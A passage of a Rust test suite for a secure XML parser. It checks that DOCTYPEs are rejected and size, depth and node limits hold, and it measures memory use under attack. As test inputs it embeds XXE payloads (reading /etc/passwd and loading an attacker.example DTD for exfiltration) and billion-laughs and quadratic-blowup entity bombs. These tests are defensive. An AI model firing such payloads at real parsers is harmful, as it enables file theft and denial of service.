//! Bad-input tests of the secure XML reader (`hocba::xml`): every DOCTYPE / entity attack, every
//! limit (custom and default, at the boundary and one past it), non-UTF-8 input, malformed XML,
//! each with its exact error variant and line:column; the normalizations a conforming reader
//! performs; and property tests that no input makes the reader panic.
//!
//! A counting global allocator measures the peak memory of the attack inputs, so "bounded memory"
//! is asserted, not assumed.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;

use hocba::xml::{
    DoctypePolicy, Document, Limits, Malformed, NodeType, ParseOptions, TextPos, XML_NAMESPACE, XmlError,
};
mod common;

use proptest::prelude::*;

// ------------------------------------------------------------------ memory accounting

/// Counts the bytes allocated by the current thread, so a test can measure the peak memory of
/// one parse while the other tests run on other threads.
struct CountingAllocator;

thread_local! {
    static CURRENT: Cell<isize> = const { Cell::new(0) };
    static PEAK: Cell<isize> = const { Cell::new(0) };
}

fn track(delta: isize) {
    let _ = CURRENT.try_with(|current| {
        let now = current.get().saturating_add(delta);
        current.set(now);
        let _ = PEAK.try_with(|peak| {
            if now > peak.get() {
                peak.set(now);
            }
        });
    });
}

unsafe impl GlobalAlloc for CountingAllocator {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        let p = unsafe { System.alloc(layout) };
        if !p.is_null() {
            track(layout.size() as isize);
        }
        p
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        let p = unsafe { System.alloc_zeroed(layout) };
        if !p.is_null() {
            track(layout.size() as isize);
        }
        p
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) };
        track(-(layout.size() as isize));
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        let p = unsafe { System.realloc(ptr, layout, new_size) };
        if !p.is_null() {
            track(new_size as isize - layout.size() as isize);
        }
        p
    }
}

#[global_allocator]
static ALLOCATOR: CountingAllocator = CountingAllocator;

/// Runs `f` and returns its result with the most memory it held at any one time, in bytes.
fn peak_memory<R>(f: impl FnOnce() -> R) -> (R, usize) {
    let base = CURRENT.with(Cell::get);
    PEAK.with(|p| p.set(base));
    let result = f();
    let peak = PEAK.with(Cell::get);
    (result, (peak - base).max(0) as usize)
}

// ------------------------------------------------------------------ helpers

fn pos(line: u32, column: u32) -> TextPos {
    TextPos { line, column }
}

/// The error of parsing `input` with the default options; fails the test if it parses.
fn err(input: impl AsRef<[u8]>) -> XmlError {
    err_with(input, &ParseOptions::default())
}

fn err_with(input: impl AsRef<[u8]>, options: &ParseOptions) -> XmlError {
    let input = input.as_ref();
    match Document::parse_with(input, options) {
        Ok(doc) => panic!("expected an error, parsed {doc:?} from {:?}", String::from_utf8_lossy(input)),
        Err(e) => e,
    }
}

/// Parses with the default options; fails the test on error.
fn ok(input: &str) -> Document<'_> {
    ok_with(input, &ParseOptions::default())
}

fn ok_with<'a>(input: &'a str, options: &ParseOptions) -> Document<'a> {
    Document::parse_with(input.as_bytes(), options).unwrap_or_else(|e| panic!("{input:?} should parse: {e}"))
}

/// The rule and position of a malformed document; fails the test on any other outcome.
fn malformed(input: impl AsRef<[u8]>) -> (Malformed, TextPos) {
    match err(input) {
        XmlError::Malformed { pos, what } => (what, pos),
        other => panic!("expected XmlError::Malformed, got {other:?}"),
    }
}

/// The 1-based column of the first `needle` in a one-line ASCII `input`.
fn col(input: &str, needle: &str) -> u32 {
    assert!(input.is_ascii() && !input.contains('\n'));
    input.find(needle).unwrap_or_else(|| panic!("{needle:?} not in {input:?}")) as u32 + 1
}

fn with_limits(edit: impl FnOnce(&mut Limits)) -> ParseOptions {
    let mut options = ParseOptions::default();
    edit(&mut options.limits);
    options
}

fn ignore_external() -> ParseOptions {
    ParseOptions { doctype: DoctypePolicy::IgnoreExternalOnly, ..ParseOptions::default() }
}

/// The concatenated text of all text nodes below the root element.
fn all_text(doc: &Document<'_>) -> String {
    doc.root_element().descendants().filter(|n| n.node_type() == NodeType::Text).filter_map(|n| n.text()).collect()
}

/// The attribute `name` (no namespace) of the root element.
fn root_attr<'a>(doc: &'a Document<'_>, name: &str) -> &'a str {
    doc.root_element().attribute(None, name).unwrap_or_else(|| panic!("root has no attribute {name}"))
}

const MIB: usize = 1 << 20;

// ================================================================== defaults

#[test]
fn default_options_are_the_secure_ones() {
    let options = ParseOptions::default();
    assert_eq!(options.doctype, DoctypePolicy::Reject);
    assert_eq!(
        options.limits,
        Limits {
            max_input_bytes: 16 * MIB,
            max_depth: 100,
            max_nodes: 1_000_000,
            max_attributes: 256,
            max_attribute_value_bytes: 64 * 1024,
            max_text_bytes: 8 * MIB,
            max_namespaces_in_scope: 256,
        }
    );
    assert_eq!(Limits::default(), options.limits);
}

#[test]
fn error_pos_accessor_and_display_name_the_position() {
    let e = err("<a>\n  <!DOCTYPE a>\n</a>");
    assert_eq!(e, XmlError::DtdNotAllowed { pos: pos(2, 3) });
    assert_eq!(e.pos(), Some(pos(2, 3)));
    assert!(e.to_string().contains("2:3"), "{e}");
    let e = err_with("<a/>", &with_limits(|l| l.max_input_bytes = 3));
    assert_eq!(e.pos(), None);
}

// ================================================================== DOCTYPE and entities

#[test]
fn doctype_plain_is_refused() {
    assert_eq!(err("<!DOCTYPE a><a/>"), XmlError::DtdNotAllowed { pos: pos(1, 1) });
}

#[test]
fn doctype_with_system_id_is_refused() {
    assert_eq!(err("<!DOCTYPE a SYSTEM \"a.dtd\"><a/>"), XmlError::DtdNotAllowed { pos: pos(1, 1) });
    assert_eq!(
        err("<!DOCTYPE a PUBLIC \"-//X//DTD A//EN\" \"http://example.com/a.dtd\"><a/>"),
        XmlError::DtdNotAllowed { pos: pos(1, 1) }
    );
}

#[test]
fn doctype_with_internal_subset_is_refused() {
    let input = "<!DOCTYPE a [\n  <!ELEMENT a (#PCDATA)>\n  <!ATTLIST a x CDATA \"default\">\n]>\n<a/>";
    assert_eq!(err(input), XmlError::DtdNotAllowed { pos: pos(1, 1) });
}

#[test]
fn doctype_after_xml_declaration_and_comment_names_its_line() {
    let input = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- a comment -->\n<!DOCTYPE a>\n<a/>";
    assert_eq!(err(input), XmlError::DtdNotAllowed { pos: pos(3, 1) });
    let input = "<?xml version=\"1.0\"?>\n\n   <!DOCTYPE a SYSTEM \"x.dtd\"><a/>";
    assert_eq!(err(input), XmlError::DtdNotAllowed { pos: pos(3, 4) });
}

#[test]
fn doctype_position_counts_characters_not_bytes() {
    // A comment with Vietnamese text (multi-byte UTF-8) before the DOCTYPE on the same line.
    let input = "<!--Học bạ số--><!DOCTYPE a><a/>";
    assert_eq!(err(input), XmlError::DtdNotAllowed { pos: pos(1, 17) });
}

#[test]
fn doctype_inside_the_root_element_is_refused() {
    assert_eq!(err("<a><!DOCTYPE a></a>"), XmlError::DtdNotAllowed { pos: pos(1, 4) });
}

#[test]
fn doctype_after_the_root_element_is_refused() {
    assert_eq!(err("<a/>\n<!DOCTYPE a>"), XmlError::DtdNotAllowed { pos: pos(2, 1) });
}

#[test]
fn doctype_without_a_name_is_still_a_doctype() {
    for input in ["<!DOCTYPE><a/>", "<!DOCTYPE ><a/>", "<a/>\n<!DOCTYPE>"] {
        let e = err(input);
        assert!(matches!(e, XmlError::DtdNotAllowed { .. }), "{input}: {e:?}");
    }
}

#[test]

fn doctype_without_a_name_names_the_doctype_start() {
    assert_eq!(err("<!DOCTYPE><a/>"), XmlError::DtdNotAllowed { pos: pos(1, 1) });
    assert_eq!(err("<a/>\n  <!DOCTYPE >"), XmlError::DtdNotAllowed { pos: pos(2, 3) });
}

#[test]

fn unclosed_doctype_is_still_a_doctype() {
    // The reader maps a DOCTYPE without a name to DtdNotAllowed ("any DOCTYPE, well-formed or not,
    // is first of all a DOCTYPE") but not one that never ends.
    assert_eq!(err("<!DOCTYPE a [\n<!ENTITY x \"y\">\n"), XmlError::DtdNotAllowed { pos: pos(1, 1) });
}

#[test]
fn unclosed_doctype_is_an_error() {
    let e = err("<!DOCTYPE a [\n<!ENTITY x \"y\">\n");
    assert_eq!(e.pos(), Some(pos(1, 1)), "{e:?}");
    assert!(
        matches!(
            e,
            XmlError::DtdNotAllowed { .. }
                | XmlError::Malformed { what: Malformed::Unclosed("document type declaration"), .. }
        ),
        "{e:?}"
    );
}

#[test]
fn lowercase_doctype_is_refused() {
    // `<!doctype` is not XML syntax at all; either way it must not be read as markup to skip.
    let e = err("<!doctype a><a/>");
    assert_eq!(e.pos(), Some(pos(1, 1)), "{e:?}");
    assert!(matches!(e, XmlError::DtdNotAllowed { .. } | XmlError::Malformed { .. }), "{e:?}");
}

const XXE: &str = "<?xml version=\"1.0\"?>\n\
<!DOCTYPE foo [\n\
  <!ELEMENT foo ANY>\n\
  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n\
]>\n\
<foo>&xxe;</foo>";

#[test]
fn xxe_is_refused_without_fetching() {
    assert_eq!(err(XXE), XmlError::DtdNotAllowed { pos: pos(2, 1) });
    assert_eq!(err_with(XXE, &ignore_external()), XmlError::DtdNotAllowed { pos: pos(2, 1) });
}

#[test]
fn xxe_through_an_external_parameter_entity_is_refused() {
    let input =
        "<!DOCTYPE foo [<!ENTITY % dtd SYSTEM \"http://attacker.example/evil.dtd\"> %dtd;]>\n<foo>&exfil;</foo>";
    assert_eq!(err(input), XmlError::DtdNotAllowed { pos: pos(1, 1) });
    assert_eq!(err_with(input, &ignore_external()), XmlError::DtdNotAllowed { pos: pos(1, 1) });
}

fn billion_laughs() -> String {
    let mut s = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    s.push_str(" <!ELEMENT lolz (#PCDATA)>\n");
    for level in 1..=9 {
        let previous = if level == 1 { "lol".to_owned() } else { format!("lol{}", level - 1) };
        s.push_str(&format!(" <!ENTITY lol{level} \"{}\">\n", format!("&{previous};").repeat(10)));
    }
    s.push_str("]>\n<lolz>&lol9;</lolz>\n");
    s
}

#[test]
fn billion_laughs_is_refused_in_bounded_memory() {
    let input = billion_laughs();
    for options in [ParseOptions::default(), ignore_external()] {
        let (result, peak) = peak_memory(|| Document::parse_with(input.as_bytes(), &options).map(|_| ()));
        assert_eq!(result, Err(XmlError::DtdNotAllowed { pos: pos(2, 1) }));
        assert!(peak < 64 * 1024, "billion laughs used {peak} bytes");
    }
}

#[test]
fn quadratic_blowup_is_refused_in_bounded_memory() {
    // One 50 KB entity referenced 20,000 times: 1 GB once expanded.
    let entity = "A".repeat(50_000);
    let input = format!("<!DOCTYPE kaboom [<!ENTITY a \"{entity}\">]>\n<kaboom>{}</kaboom>", "&a;".repeat(20_000));
    for options in [ParseOptions::default(), ignore_external()] {
        let (result, peak) = peak_memory(|| Document::parse_with(input.as_bytes(), &options).map(|_| ()));
        assert_eq!(result, Err(XmlError::DtdNotAllowed { pos: pos(1, 1) }));
        assert!(peak < 4 * input.len(), "quadratic blowup used {peak} bytes for {} input bytes", input.len());
    }
}

#[test]
fn parameter_entities_are_refused() {
    let input = "<!DOCTYPE a [\n  <!ENTITY % p \"<!ENTITY e 'expanded'>\">\n  %p;\n]>\n<a>&e;</a>";
    assert_eq!(err(input), XmlError::DtdNotAllowed { pos: pos(1, 1) });
    assert_eq!(err_with(input, &ignore_external()), XmlError::DtdNotAllowed { pos: pos(1, 1) });
}

#[test]
fn undeclared_entity_reference_is_unknown_entity() {
    assert_eq!(err("<a>&foo;</a>"), XmlError::UnknownEntity { name: "foo".into(), pos: pos(1, 4) });
    assert_eq!(err("<a>\n  text &nbsp; more</a>"), XmlError::UnknownEntity { name: "nbsp".into(), pos: pos(2, 8) });
    // In an attribute value, at the '&'.
    assert_eq!(err("<a x=\"1 &foo;\"/>"), XmlError::UnknownEntity { name: "foo".into(), pos: pos(1, 9) });
    // Outside the root element: the entity is the first problem.
    assert_eq!(err("<a/>&foo;"), XmlError::UnknownEntity { name: "foo".into(), pos: pos(1, 5) });
}

// ------------------------------------------------------------------ DoctypePolicy::IgnoreExternalOnly

#[test]
fn ignore_external_only_accepts_and_ignores_an_external_doctype() {
    let options = ignore_external();
    for input in [
        "<!DOCTYPE a><a/>",
        "<!DOCTYPE a SYSTEM \"a.dtd\"><a/>",
        "<!DOCTYPE a SYSTEM 'http://example.com/a.dtd'>\n<a/>",
        "<!DOCTYPE a PUBLIC \"-//X//DTD A//EN\" \"http://example.com/a.dtd\">\n<a/>",
        "<?xml version=\"1.0\"?>\n<!DOCTYPE p:a SYSTEM \"a.dtd\" >\n<p:a xmlns:p=\"urn:p\"/>",
    ] {
        let doc = ok_with(input, &options);
        // Nothing of the DOCTYPE appears in the tree: the root element is the document's only child.
        let children: Vec<_> = doc.root().children().map(|n| n.node_type()).collect();
        assert_eq!(children, [NodeType::Element], "{input}");
        assert_eq!(doc.root_element().attributes().len(), 0, "{input}");
    }
}

#[test]
fn ignore_external_only_never_loads_the_external_subset() {
    // An entity the external DTD might declare stays unknown: nothing is fetched.
    let input = "<!DOCTYPE a SYSTEM \"http://attacker.example/evil.dtd\">\n<a>&xxe;</a>";
    assert_eq!(err_with(input, &ignore_external()), XmlError::UnknownEntity { name: "xxe".into(), pos: pos(2, 4) });
    let input = "<!DOCTYPE a SYSTEM \"file:///etc/passwd\">\n<a x=\"&xxe;\"/>";
    assert_eq!(err_with(input, &ignore_external()), XmlError::UnknownEntity { name: "xxe".into(), pos: pos(2, 7) });
}

#[test]
fn ignore_external_only_still_refuses_an_internal_subset() {
    let options = ignore_external();
    for input in [
        "<!DOCTYPE a []><a/>",
        "<!DOCTYPE a [<!ENTITY e \"v\">]><a>&e;</a>",
        "<!DOCTYPE a SYSTEM \"a.dtd\" [<!ENTITY e \"v\">]><a/>",
        "<!DOCTYPE a PUBLIC \"-//X//EN\" \"a.dtd\"[<!ATTLIST a x CDATA \"1\">]><a/>",
    ] {
        assert_eq!(err_with(input, &options), XmlError::DtdNotAllowed { pos: pos(1, 1) }, "{input}");
    }
    let input = "<?xml version=\"1.0\"?>\n<!DOCTYPE a [\n]>\n<a/>";
    assert_eq!(err_with(input, &options), XmlError::DtdNotAllowed { pos: pos(2, 1) });
}

#[test]
fn ignore_external_only_refuses_a_doctype_that_is_not_name_and_external_id() {
    let options = ignore_external();
    for input in [
        "<!DOCTYPE a SYSTEM><a/>",
        "<!DOCTYPE a PUBLIC \"-//X//EN\"><a/>",
        "<!DOCTYPE a FOO \"x\"><a/>",
        "<!DOCTYPE a SYSTEM \"x\" \"y\"><a/>",
        "<!DOCTYPE a SYSTEM \"unterminated><a/>",
    ] {
        let e = err_with(input, &options);
        assert_eq!(e.pos(), Some(pos(1, 1)), "{input}: {e:?}");
    }
    // No name at all: refused (as malformed markup, where the name is missing).
    let e = err_with("<!DOCTYPE><a/>", &options);
    assert!(matches!(e, XmlError::DtdNotAllowed { .. } | XmlError::Malformed { .. }), "{e:?}");
    assert_eq!(e.pos().map(|p| p.line), Some(1));
}

#[test]

fn ignore_external_only_checks_the_doctype_name() {
    // `<!DOCTYPE 1a>` is refused (the name is checked) but `<!DOCTYPE 1a SYSTEM "a.dtd">` is accepted.
    assert_eq!(err_with("<!DOCTYPE 1a><a/>", &ignore_external()), XmlError::DtdNotAllowed { pos: pos(1, 1) });
    let e = err_with("<!DOCTYPE 1a SYSTEM \"a.dtd\"><a/>", &ignore_external());
    assert_eq!(e.pos(), Some(pos(1, 1)), "{e:?}");
}

#[test]

fn ignore_external_only_requires_space_before_the_system_literal() {
    let e = err_with("<!DOCTYPE a SYSTEM\"a.dtd\"><a/>", &ignore_external());
    assert_eq!(e.pos(), Some(pos(1, 1)), "{e:?}");
}

#[test]
fn ignore_external_only_refuses_a_misplaced_or_second_doctype() {
    let options = ignore_external();
    assert_eq!(
        err_with("<a/>\n<!DOCTYPE a>", &options),
        XmlError::Malformed { pos: pos(2, 1), what: Malformed::MisplacedDoctype }
    );
    assert_eq!(
        err_with("<!DOCTYPE a>\n<!DOCTYPE a>\n<a/>", &options),
        XmlError::Malformed { pos: pos(2, 1), what: Malformed::MisplacedDoctype }
    );
    assert_eq!(
        err_with("<a>\n<!DOCTYPE a></a>", &options),
        XmlError::Malformed { pos: pos(2, 1), what: Malformed::MisplacedDoctype }
    );
}

#[test]
fn ignore_external_only_gives_unknown_entity_for_undeclared_references() {
    let options = ignore_external();
    assert_eq!(
        err_with("<!DOCTYPE a>\n<a>\n  x &foo;</a>", &options),
        XmlError::UnknownEntity { name: "foo".into(), pos: pos(3, 5) }
    );
    assert_eq!(err_with("<a>&foo;</a>", &options), XmlError::UnknownEntity { name: "foo".into(), pos: pos(1, 4) });
}

// ================================================================== limits

// ------------------------------------------------------------------ input size

#[test]
fn input_size_limit_boundary() {
    let options = with_limits(|l| l.max_input_bytes = 10);
    ok_with("<a>xxx</a>", &options); // 10 bytes
    assert_eq!(err_with("<a>xxxx</a>", &options), XmlError::InputTooLarge { size: 11, limit: 10 });
}

#[test]
fn input_size_limit_is_checked_before_anything_else() {
    // Too large, not UTF-8 and with a DOCTYPE: the size is the error.
    let options = with_limits(|l| l.max_input_bytes = 16);
    let input = b"<!DOCTYPE a>\xff\xfe<a/>";
    assert_eq!(err_with(input, &options), XmlError::InputTooLarge { size: input.len(), limit: 16 });
}

#[test]
fn input_size_limit_counts_the_byte_order_mark() {
    let options = with_limits(|l| l.max_input_bytes = 4);
    ok_with("<a/>", &options);
    assert_eq!(err_with(b"\xEF\xBB\xBF<a/>", &options), XmlError::InputTooLarge { size: 7, limit: 4 });
}

#[test]
fn default_input_size_limit_boundary() {
    // A comment is not limited by max_text_bytes, so it can fill the document.
    let fill = |total: usize| format!("<a><!--{}--></a>", "x".repeat(total - 14));
    let at_limit = fill(16 * MIB);
    assert_eq!(at_limit.len(), 16 * MIB);
    let doc = ok(&at_limit);
    assert_eq!(doc.root_element().children().count(), 1);
    let over = fill(16 * MIB + 1);
    assert_eq!(err(&over), XmlError::InputTooLarge { size: 16 * MIB + 1, limit: 16 * MIB });
}

#[test]
fn fifty_megabytes_are_refused_before_reading() {
    let mut input = vec![b'x'; 50_000_000];
    input[..3].copy_from_slice(b"<a>");
    let (result, peak) = peak_memory(|| Document::parse(&input).map(|_| ()));
    assert_eq!(result, Err(XmlError::InputTooLarge { size: 50_000_000, limit: 16 * MIB }));
    assert!(peak < 4096, "refusing allocated {peak} bytes");
}

// ------------------------------------------------------------------ depth

fn nested(depth: usize, separator: &str) -> String {
    let mut s = String::with_capacity(depth * 8);
    for _ in 0..depth {
        s.push_str("<a>");
        s.push_str(separator);
    }
    for _ in 0..depth {
        s.push_str("</a>");
    }
    s
}

#[test]
fn depth_limit_boundary() {
    let options = with_limits(|l| l.max_depth = 3);
    ok_with("<a><b><c/></b></a>", &options);
    ok_with("<a><b><c></c></b></a>", &options);
    assert_eq!(err_with("<a><b><c><d/></c></b></a>", &options), XmlError::TooDeep { pos: pos(1, 10), limit: 3 });
    assert_eq!(
        err_with("<a>\n <b>\n  <c>\n   <d></d></c></b></a>", &options),
        XmlError::TooDeep { pos: pos(4, 4), limit: 3 }
    );
    // Siblings do not add depth.
    ok_with("<a><b><c/><c/></b><b><c/></b></a>", &options);
    // Depth 1 means just a root element.
    let options = with_limits(|l| l.max_depth = 1);
    ok_with("<a>text<!--c--><?pi x?></a>", &options);
    assert_eq!(err_with("<a><b/></a>", &options), XmlError::TooDeep { pos: pos(1, 4), limit: 1 });
}

#[test]
fn default_depth_limit_boundary() {
    let input = nested(100, "\n");
    let doc = ok(&input);
    assert_eq!(doc.descendants().filter(|n| n.is_element()).count(), 100);
    // The 101st start tag is on line 101.
    assert_eq!(err(nested(101, "\n")), XmlError::TooDeep { pos: pos(101, 1), limit: 100 });
    assert_eq!(err(nested(101, "")), XmlError::TooDeep { pos: pos(1, 301), limit: 100 });
}

#[test]
fn very_deep_nesting_is_refused_without_stack_overflow() {
    for depth in [10_000, 1_000_000] {
        let input = nested(depth, "");
        let (result, peak) = peak_memory(|| Document::parse(input.as_bytes()).map(|_| ()));
        assert_eq!(result, Err(XmlError::TooDeep { pos: pos(1, 301), limit: 100 }), "depth {depth}");
        assert!(peak < 4 * input.len() + MIB, "depth {depth}: {peak} bytes for {} input bytes", input.len());
        // Only start tags, never closed.
        let input = "<a>".repeat(depth);
        assert_eq!(err(input), XmlError::TooDeep { pos: pos(1, 301), limit: 100 }, "depth {depth}");
    }
}

#[test]
fn million_deep_nesting_within_raised_limits_parses_without_stack_overflow() {
    let options = with_limits(|l| {
        l.max_depth = u32::MAX;
        l.max_nodes = u32::MAX;
    });
    let input = nested(1_000_000, "");
    let doc = ok_with(&input, &options);
    assert_eq!(doc.node_count(), 1_000_001);
    let deepest = doc.descendants().last().expect("nodes");
    assert_eq!(deepest.ancestors_or_self().count(), 1_000_001);
    drop(doc);
    // Unclosed at that depth: the error names the innermost element, at the end of the input.
    let input = "<a>".repeat(1_000_000);
    assert_eq!(
        err_with(&input, &options),
        XmlError::Malformed {
            pos: pos(1, 3_000_001),
            what: Malformed::UnexpectedEof { open_element: Some("a".into()) }
        }
    );
}

// ------------------------------------------------------------------ node count

#[test]
fn node_limit_boundary() {
    let options = with_limits(|l| l.max_nodes = 3);
    ok_with("<a><b/><c/></a>", &options);
    assert_eq!(err_with("<a><b/><c/><d/></a>", &options), XmlError::TooManyNodes { pos: pos(1, 12), limit: 3 });
    // Text, comments and processing instructions are nodes.
    ok_with("<a>x<b/></a>", &options);
    assert_eq!(err_with("<a>x<b/>y</a>", &options), XmlError::TooManyNodes { pos: pos(1, 9), limit: 3 });
    assert_eq!(err_with("<a><!--1--><?p 2?><b/></a>", &options), XmlError::TooManyNodes { pos: pos(1, 19), limit: 3 });
    // Comments and processing instructions outside the root element count too.
    ok_with("<!--1--><a/><?p 3?>", &options);
    assert_eq!(
        err_with("<!--1--><a/><?p 3?>\n<!--4-->", &options),
        XmlError::TooManyNodes { pos: pos(2, 1), limit: 3 }
    );
    // Attributes and namespace declarations are not nodes.
    ok_with("<a xmlns:p=\"urn:p\" x=\"1\" p:y=\"2\"><b z=\"3\"/><c/></a>", &options);
    // Text assembled from several pieces is one node.
    ok_with("<a>x&amp;<![CDATA[y]]>&#65;z<b/><c/></a>", &with_limits(|l| l.max_nodes = 4));
}

#[test]
fn node_limit_of_one_allows_only_an_empty_root() {
    let options = with_limits(|l| l.max_nodes = 1);
    ok_with("<a/>", &options);
    ok_with("<a></a>", &options);
    assert_eq!(err_with("<a> </a>", &options), XmlError::TooManyNodes { pos: pos(1, 4), limit: 1 });
}

#[test]
fn default_node_limit_boundary() {
    let build = |elements: usize| format!("<a>{}</a>", "<b/>".repeat(elements - 1));
    let input = build(1_000_000);
    let doc = ok(&input);
    assert_eq!(doc.node_count(), 1_000_001); // the document node is not counted
    assert_eq!(err(build(1_000_001)), XmlError::TooManyNodes { pos: pos(1, 4_000_000), limit: 1_000_000 });
}

// ------------------------------------------------------------------ attributes per element

fn element_with_attributes(n: usize) -> String {
    let mut s = String::from("<a");
    for i in 0..n {
        s.push_str(&format!(" a{i}=\"{i}\""));
    }
    s.push_str("/>");
    s
}

/// `TooManyAttributes` with this limit, on this line (the column is checked by
/// `too_many_attributes_names_the_element_start`, which fails today).
fn assert_too_many_attributes(e: XmlError, limit: u32, line: u32) {
    match e {
        XmlError::TooManyAttributes { pos, limit: l } => {
            assert_eq!((l, pos.line), (limit, line), "{e:?}");
        }
        other => panic!("expected TooManyAttributes, got {other:?}"),
    }
}

#[test]
fn attribute_count_limit_boundary() {
    let options = with_limits(|l| l.max_attributes = 2);
    ok_with("<a x=\"1\" y=\"2\"/>", &options);
    ok_with("<a x=\"1\" y=\"2\"><b x=\"1\" y=\"2\"/></a>", &options);
    assert_too_many_attributes(err_with("<a x=\"1\" y=\"2\" z=\"3\"/>", &options), 2, 1);
    assert_too_many_attributes(err_with("<a x=\"1\" y=\"2\" z=\"3\"></a>", &options), 2, 1);
    // Namespace declarations count.
    assert_too_many_attributes(err_with("<r>\n  <a xmlns=\"urn:d\" xmlns:p=\"urn:p\" p:x=\"1\"/></r>", &options), 2, 2);
    let options = with_limits(|l| l.max_attributes = 0);
    ok_with("<a><b/></a>", &options);
    assert_too_many_attributes(err_with("<a><b x=\"1\"/></a>", &options), 0, 1);
}

#[test]

fn too_many_attributes_names_the_element_start() {
    // "element at {pos} has more than the limit": the position should be the element's '<', as
    // for TooDeep; today it is the white space right after the element name (1:3 here).
    let options = with_limits(|l| l.max_attributes = 2);
    assert_eq!(
        err_with("<a x=\"1\" y=\"2\" z=\"3\"/>", &options),
        XmlError::TooManyAttributes { pos: pos(1, 1), limit: 2 }
    );
    assert_eq!(
        err_with("<r>\n  <elem xmlns=\"urn:d\" xmlns:p=\"urn:p\" p:x=\"1\"/></r>", &options),
        XmlError::TooManyAttributes { pos: pos(2, 3), limit: 2 }
    );
    assert_eq!(err(element_with_attributes(257)), XmlError::TooManyAttributes { pos: pos(1, 1), limit: 256 });
}

#[test]
fn default_attribute_count_limit_boundary() {
    let input = element_with_attributes(256);
    let doc = ok(&input);
    assert_eq!(doc.root_element().attributes().len(), 256);
    assert_too_many_attributes(err(element_with_attributes(257)), 256, 1);
}

#[test]
fn many_attributes_fail_in_bounded_memory() {
    // 100,000 attributes (with duplicates, which would cost quadratic time if checked first).
    let input = format!("<a{}/>", " x=\"1\"".repeat(100_000));
    let (e, peak) = peak_memory(|| err(&input));
    assert_too_many_attributes(e, 256, 1);
    assert!(peak < 4 * input.len() + MIB, "{peak}");
}

// ------------------------------------------------------------------ attribute value length

#[test]
fn attribute_value_limit_boundary() {
    let options = with_limits(|l| l.max_attribute_value_bytes = 4);
    let doc = ok_with("<a x=\"abcd\"/>", &options);
    assert_eq!(root_attr(&doc, "x"), "abcd");
    assert_eq!(err_with("<a x=\"abcde\"/>", &options), XmlError::AttributeValueTooLong { pos: pos(1, 7), limit: 4 });
    assert_eq!(
        err_with("<a\n   y='1' x='abcde'/>", &options),
        XmlError::AttributeValueTooLong { pos: pos(2, 13), limit: 4 }
    );
    // Namespace declarations are attributes too.
    assert_eq!(
        err_with("<a xmlns:p=\"urn:xy\"/>", &options),
        XmlError::AttributeValueTooLong { pos: pos(1, 13), limit: 4 }
    );
    // The limit is in bytes: "Học" is 3 characters but 5 bytes.
    ok_with("<a x=\"Hoc\"/>", &options);
    assert_eq!(err_with("<a x=\"Học\"/>", &options), XmlError::AttributeValueTooLong { pos: pos(1, 7), limit: 4 });
}

#[test]
fn attribute_value_limit_applies_after_reference_replacement() {
    let options = with_limits(|l| l.max_attribute_value_bytes = 4);
    // 20 bytes written, 4 bytes of value.
    let doc = ok_with("<a x=\"&#65;&#66;&lt;&amp;\"/>", &options);
    assert_eq!(root_attr(&doc, "x"), "AB<&");
    // Two é are 4 bytes; three are 6, though written as 18 ASCII bytes.
    ok_with("<a x=\"&#233;&#xE9;\"/>", &options);
    assert_eq!(
        err_with("<a x=\"&#233;&#233;&#233;\"/>", &options),
        XmlError::AttributeValueTooLong { pos: pos(1, 7), limit: 4 }
    );
    // One supplementary character is 4 bytes.
    ok_with("<a x=\"&#x1F600;\"/>", &options);
    assert_eq!(
        err_with("<a x=\"&#x1F600;a\"/>", &options),
        XmlError::AttributeValueTooLong { pos: pos(1, 7), limit: 4 }
    );
    // A CR LF pair is one space after normalization.
    let doc = ok_with("<a x=\"ab\r\ncd\"/>", &with_limits(|l| l.max_attribute_value_bytes = 5));
    assert_eq!(root_attr(&doc, "x"), "ab cd");
}

#[test]
fn default_attribute_value_limit_boundary() {
    let value = "v".repeat(64 * 1024);
    let input = format!("<a x=\"{value}\"/>");
    let doc = ok(&input);
    assert_eq!(root_attr(&doc, "x").len(), 65536);
    assert_eq!(err(format!("<a x=\"{value}v\"/>")), XmlError::AttributeValueTooLong { pos: pos(1, 7), limit: 65536 });
    let refs = "&#x76;".repeat(64 * 1024 + 1);
    assert_eq!(err(format!("<a x=\"{refs}\"/>")), XmlError::AttributeValueTooLong { pos: pos(1, 7), limit: 65536 });
}

// ------------------------------------------------------------------ text length

#[test]
fn text_limit_boundary() {
    let options = with_limits(|l| l.max_text_bytes = 5);
    let doc = ok_with("<a>hello</a>", &options);
    assert_eq!(all_text(&doc), "hello");
    assert_eq!(err_with("<a>hello!</a>", &options), XmlError::TextTooLong { pos: pos(1, 4), limit: 5 });
    assert_eq!(err_with("<a>\n<b>\n  world</b></a>", &options), XmlError::TextTooLong { pos: pos(2, 4), limit: 5 });
    // Bytes, not characters: "bạ số" is 5 characters, 9 bytes.
    assert_eq!(err_with("<a>bạ số</a>", &options), XmlError::TextTooLong { pos: pos(1, 4), limit: 5 });
    // Separate text nodes are limited separately.
    ok_with("<a>hello<b/>world<!--c-->again</a>", &options);
    // CDATA sections are text.
    ok_with("<a><![CDATA[<&>]]></a>", &options);
    assert_eq!(err_with("<a><![CDATA[<<&>>>]]></a>", &options), XmlError::TextTooLong { pos: pos(1, 4), limit: 5 });
    // Text outside elements other than white space is an error anyway; white space is not text.
    ok_with("<a/>\n\n\n\n\n\n\n", &options);
}

#[test]
fn text_limit_applies_to_text_assembled_from_pieces() {
    let options = with_limits(|l| l.max_text_bytes = 5);
    // text + CDATA + entity + character reference = one text node of 5 bytes.
    let doc = ok_with("<a>ab<![CDATA[c]]>&amp;&#x41;</a>", &options);
    assert_eq!(all_text(&doc), "abc&A");
    assert_eq!(doc.root_element().children().count(), 1);
    // One more piece of any kind is one byte too many; the error names the start of the text.
    for input in [
        "<a>ab<![CDATA[c]]>&amp;&#x41;z</a>",
        "<a>ab<![CDATA[c]]>&amp;&#x41;&lt;</a>",
        "<a>ab<![CDATA[c]]>&amp;&#x41;<![CDATA[z]]></a>",
        "<a>ab<![CDATA[c]]>&amp;&#x41;&#66;</a>",
    ] {
